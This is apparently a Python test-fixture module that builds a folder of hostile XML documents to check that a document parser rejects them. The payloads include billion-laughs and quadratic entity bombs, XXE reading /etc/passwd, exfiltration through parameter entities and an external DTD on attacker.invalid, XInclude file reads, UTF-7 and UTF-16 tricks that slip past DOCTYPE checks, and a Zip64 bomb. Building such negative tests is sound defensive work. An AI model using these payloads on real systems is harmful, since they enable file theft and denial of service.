"""The hostile-xml folder: entity expansion, external resources, evasions, depth, bombs.

Each attack sits in an otherwise valid document package, where a careless reader would act on
it (an entity in the Subject, an XInclude in the header). Every URL uses the reserved
``.invalid`` domain: nothing here can reach a real host even when a reader is fooled.
"""

from __future__ import annotations

import base64
import re
import struct
import zlib

from lgsp.conformance.negative._base import document_bytes, edit, status_bytes

__all__ = ["billion_laughs", "build", "with_doctype"]

_SUBJECT = re.compile(rb"(<edXML:Subject>)[^<]*(</edXML:Subject>)")
_DESCRIPTION = re.compile(rb"(<edXML:Description>)[^<]*(</edXML:Description>)")
_DECLARATION = b"<?xml version='1.0' encoding='UTF-8'?>\n"


def with_doctype(
    subset: str, text: str, *, data: bytes | None = None, where: re.Pattern[bytes] = _SUBJECT
) -> bytes:
    """The base document (or ``data``) with a DOCTYPE after its declaration and ``text`` as
    the text of its Subject (or ``where``): the place the entities are used."""
    base = data if data is not None else document_bytes()
    if not base.startswith(_DECLARATION):
        raise ValueError("the sample no longer starts with the expected XML declaration")
    body = base[len(_DECLARATION) :]
    body, n = where.subn(lambda m: m[1] + text.encode("utf-8") + m[2], body, count=1)
    if n != 1:
        raise ValueError("the sample has no element to carry the entity")
    return _DECLARATION + subset.encode("utf-8") + b"\n" + body


def billion_laughs() -> str:
    lines = ["<!DOCTYPE edXML [", '  <!ENTITY lol0 "lol">']
    lines += [f'  <!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    lines.append("]>")
    return "\n".join(lines)


def _utf7_escape(text: str) -> bytes:
    """UTF-7 with every markup character in its Base64 form (``<`` becomes ``+ADw-``), so that
    a check that looks for ``<!DOCTYPE`` in the raw bytes finds nothing."""
    plain = set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 '(),-./:?\n")
    out = bytearray()
    run = ""
    for char in text + "\0":
        if char in plain or char == "\0":
            if run:
                encoded = base64.b64encode(run.encode("utf-16-be")).rstrip(b"=")
                out += b"+" + encoded + b"-"
                run = ""
            if char != "\0":
                out += char.encode("ascii")
        else:
            run += char
    return bytes(out)


def _declared_zip_bomb() -> bytes:
    """A one-member ZIP whose Zip64 sizes declare 1 TiB unpacked (its deflated data is 1 KiB
    of zeros): a reader that trusts the declared size, or inflates without a limit, is hurt."""
    name = b"bao-cao.pdf"
    packed = zlib.compress(bytes(1024), 9)[2:-4]  # raw deflate
    crc = zlib.crc32(bytes(1024))
    huge = 1 << 40
    extra = struct.pack("<HHQQ", 0x0001, 16, huge, len(packed))
    local = (
        struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            45,
            0,
            8,
            0,
            0x5822,
            crc,
            0xFFFFFFFF,
            0xFFFFFFFF,
            len(name),
            len(extra),
        )
        + name
        + extra
        + packed
    )
    central = (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            45,
            45,
            0,
            8,
            0,
            0x5822,
            crc,
            0xFFFFFFFF,
            0xFFFFFFFF,
            len(name),
            len(extra),
            0,
            0,
            0,
            0,
            0,
        )
        + name
        + extra
    )
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def _with_attachment(payload: bytes) -> bytes:
    base = document_bytes()
    found = re.search(rb"(<edXML:ContentTransferEncoded[^>]*>)([^<]*)(<)", base)
    if found is None:
        raise ValueError("the sample has no attachment")
    return base[: found.start(2)] + base64.b64encode(payload) + base[found.end(2) :]


def build() -> dict[str, bytes]:
    """Every file of the folder, by name."""
    xxe_file = '<!DOCTYPE edXML [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>'
    # 2,200 characters used 2,000 times: 4.4 million once expanded, past lgsp's 4 MiB limit
    # on one text (XMLLimits.max_text_chars), from a 15 KB file.
    blob = "Đề nghị " * 275
    files = {
        "billion-laughs.xml": with_doctype(billion_laughs(), "&lol9;"),
        "quadratic-blowup.xml": with_doctype(
            f'<!DOCTYPE edXML [\n  <!ENTITY a "{blob}">\n]>', "&a;" * 2000
        ),
        "entity-in-attribute.xml": edit(
            with_doctype(f'<!DOCTYPE edXML [\n  <!ENTITY a "{blob}">\n]>', "V/v kết nối"),
            '<edXML:edXMLManifest version="1.0">',
            '<edXML:edXMLManifest version="' + "&a;" * 2000 + '">',
        ),
        "external-entity-file.xml": with_doctype(xxe_file, "V/v &xxe;"),
        "external-entity-http.xml": with_doctype(
            '<!DOCTYPE edXML [\n  <!ENTITY xxe SYSTEM "http://attacker.invalid/lgsp?leak=1">\n]>',
            "V/v &xxe;",
        ),
        "external-dtd.xml": with_doctype(
            '<!DOCTYPE edXML SYSTEM "http://attacker.invalid/edxml.dtd">', "V/v kết nối"
        ),
        "parameter-entities.xml": with_doctype(
            "<!DOCTYPE edXML [\n"
            '  <!ENTITY % secret SYSTEM "file:///etc/hostname">\n'
            '  <!ENTITY % remote SYSTEM "http://attacker.invalid/exfiltrate.dtd">\n'
            "  %remote;\n]>",
            "V/v kết nối",
        ),
        "doctype-after-comment-and-pi.xml": with_doctype(
            "<!-- Văn bản điện tử -->\n"
            '<?xml-stylesheet type="text/xsl" href="http://attacker.invalid/view.xsl"?>\n'
            + xxe_file,
            "V/v &xxe;",
        ),
        "status-external-entity.xml": with_doctype(
            xxe_file, "&xxe;", data=status_bytes(), where=_DESCRIPTION
        ),
        "xinclude.xml": edit(
            document_bytes(),
            "</edXML:MessageHeader>",
            "</edXML:MessageHeader>\n      "
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            'href="file:///etc/passwd" parse="text"/>',
        ),
        "deep-nesting-20000.xml": _DECLARATION + b"<d>" * 20_000 + b"</d>" * 20_000 + b"\n",
        "deep-nesting-49.xml": _SUBJECT.sub(
            lambda m: m[1] + b"<b>" * 44 + b"V/v" + b"</b>" * 44 + m[2], document_bytes(), count=1
        ),
        "zip-declares-1-tib.xml": _with_attachment(_declared_zip_bomb()),
    }
    laughs = with_doctype(billion_laughs(), "&lol9;").decode("utf-8")
    in_utf16 = laughs.replace("encoding='UTF-8'", "encoding='UTF-16'", 1)
    files["utf16-doctype.xml"] = in_utf16.encode("utf-16")
    files["utf7-doctype.xml"] = b'<?xml version="1.0" encoding="UTF-7"?>\n' + _utf7_escape(
        laughs[len(_DECLARATION) :]
    )
    return files
